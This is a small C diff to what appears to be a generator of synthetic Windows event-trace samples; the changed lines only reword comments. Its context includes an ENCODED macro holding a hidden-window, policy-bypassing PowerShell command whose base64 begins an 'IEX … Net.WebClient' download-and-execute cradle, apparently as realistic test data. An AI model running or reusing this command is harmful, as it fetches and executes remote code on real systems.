@@ -22,7 +22,8 @@ static const char *const images[] = {"C:\\Windows\\System32\\svchost.exe",
     "C:\\Users\\Zoë\\AppData\\Local\\Temp\\setup_日本語.exe", "C:\\Windows\\explorer.exe",
     "C:\\Windows\\System32\\rundll32.exe"};
 
-/* A string literal may not hide a comma between two of them: long ones stand by themselves. */
+/* In an array a missing comma would join two literals, so literals of several parts have a macro
+ * each. */
 #define ENCODED                                                                                \
     "powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -EncodedCommand "   \
     "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8A" \
@@ -320,7 +321,7 @@ static void add_kernel_sample(struct etl_mix_source *s, struct buf *out)
     etl_put_u16(out, (uint16_t)(etl_mix_payload_random(s, 32) << 3));
 }
 
-/* StackWalk_Event of the sample before it. */
+/* The StackWalk_Event of the previous sample. */
 static void add_kernel_stack(struct etl_mix_source *s, struct buf *out)
 {
     uint32_t frames = 1 + etl_mix_payload_random(s, 20);
